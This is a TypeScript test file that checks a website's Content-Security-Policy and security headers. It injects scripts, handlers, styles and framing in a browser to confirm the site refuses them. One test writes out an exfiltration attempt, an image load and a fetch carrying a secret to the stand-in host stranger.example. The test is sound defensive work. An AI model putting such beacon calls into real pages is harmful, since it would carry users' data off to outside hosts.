/** What holds strangers off: the policy of every page and the headers of the host. Each visit tells what they refuse at work. */
import { createHash } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, inject, test } from 'vitest';
import { pagesOf } from './pages';
import { addressOf, inBrowser, open } from './visit';

const policyOf = (html: string): ReadonlyMap<string, readonly string[]> => {
  const text = /http-equiv="content-security-policy" content="([^"]+)"/i.exec(html)?.[1] ?? '';
  return new Map(
    text
      .replaceAll('&#39;', "'")
      .split(';')
      .map((directive) => directive.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name = '', ...sources]) => [name, sources]),
  );
};

/** The hashes of all scripts and styles that stand in a page; data for search engines is neither. */
const hashesOf = (html: string): readonly string[] =>
  [...html.matchAll(/<(script|style)(?![^>]*\s(?:src=|type="application\/))[^>]*>([\s\S]*?)<\/\1>/g)].map(
    ([, , text = '']) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`,
  );

/** Pages that run WebAssembly on their own thread. */
const WASM = ['print/custom/'];

test('every page allows its own files, its own inline scripts by their hash, and nothing else', () => {
  for (const { path, html } of pagesOf(inject('site'))) {
    const policy = policyOf(html);
    expect(policy.get('default-src'), path).toEqual(["'self'"]);
    expect(policy.get('object-src'), path).toEqual(["'none'"]);
    expect(policy.get('base-uri'), path).toEqual(["'none'"]);
    for (const name of ['script-src', 'style-src']) {
      for (const source of policy.get(name) ?? ['no such directive']) {
        const allowed = WASM.includes(path) && name === 'script-src' ? "'wasm-unsafe-eval'" : "'self'";
        expect(
          [allowed, "'self'"].includes(source) || /^'sha(256|384|512)-/.test(source),
          `${path} ${source}`,
        ).toBe(true);
      }
    }
    const allowed = new Set([...(policy.get('script-src') ?? []), ...(policy.get('style-src') ?? [])]);
    expect(
      hashesOf(html).filter((hash) => !allowed.has(hash)),
      path,
    ).toEqual([]);
    for (const source of policy.get('img-src') ?? []) {
      expect(["'self'", 'data:', 'blob:'], path).toContain(source);
    }
  }
});

test('the host says what no page can say for itself', async () => {
  const { origin } = inject('site');
  const headers = async (path: string) => (await fetch(`${origin}${path}`)).headers;
  for (const path of ['/', '/rules/mafia/', '/nobody/']) {
    const page = await headers(path);
    expect(page.get('content-security-policy'), path).toContain("frame-ancestors 'none'");
    expect(page.get('referrer-policy')).toBe('no-referrer');
    expect(page.get('x-content-type-options')).toBe('nosniff');
    expect(page.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(page.get('cross-origin-resource-policy')).toBe('same-origin');
    expect(page.get('permissions-policy')).toMatch(/camera=\(self\).*microphone=\(\)/);
  }
  const [script = ''] = readdirSync(join(inject('site').root, 'assets')).filter((name) =>
    /^worker/.test(name),
  );
  const worker = await headers(`/assets/${script}`);
  expect(worker.get('content-security-policy')).toContain("default-src 'self'");
  await expect.poll(async () => (await headers('/sw.js')).get('cache-control')).toBe('no-cache');
  expect((await fetch(`${origin}/_headers`)).status).toBe(404);
});

describe('what does not belong to the site is refused', () => {
  const refusals = async (path: string, attack: () => void): Promise<readonly string[]> => {
    let refused: readonly string[] = [];
    await inBrowser(
      async (page, troubles) => {
        await open(page, addressOf(path));
        await page.evaluate(attack);
        const refusedNow = () => troubles.filter((trouble) => trouble.startsWith('policy: '));
        await expect.poll(refusedNow).not.toEqual([]);
        await expect.poll(() => page.evaluate(() => (window as { broken?: true }).broken)).toBeUndefined();
        refused = refusedNow();
      },
      { careless: true },
    );
    return refused;
  };

  test.each(['rules/mafia/', 'print/custom/'])('an inline script in %s', async (path) => {
    const [refused] = await refusals(path, () => {
      const script = document.createElement('script');
      script.textContent = 'window.broken = true';
      document.body.append(script);
    });
    expect(refused).toContain('script-src');
  });

  test('a handler written into an element', async () => {
    const [refused] = await refusals('deal/mafia/', () => {
      document.body.setAttribute('onclick', 'window.broken = true');
      document.body.click();
    });
    expect(refused).toContain('script-src');
  });

  test('a style written into an element', async () => {
    const [refused] = await refusals('rules/mafia/', () => {
      const box = document.createElement('div');
      box.setAttribute('style', 'position: fixed');
      document.body.append(box);
    });
    expect(refused).toContain('style-src');
  });

  test('a picture and a request that would carry a secret away', async () => {
    const refused = await refusals('deal/mafia/', () => {
      new Image().src = 'https://stranger.example/?secret';
      void fetch('https://stranger.example/?secret').catch(() => undefined);
    });
    expect(refused.join()).toMatch(/img-src|default-src/);
  });

  test('a frame around the site', async () => {
    await inBrowser(
      async (page) => {
        await page.setContent(`<iframe src="${addressOf('deal/mafia/')}"></iframe>`);
        await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
      },
      { careless: true },
    );
  });
});
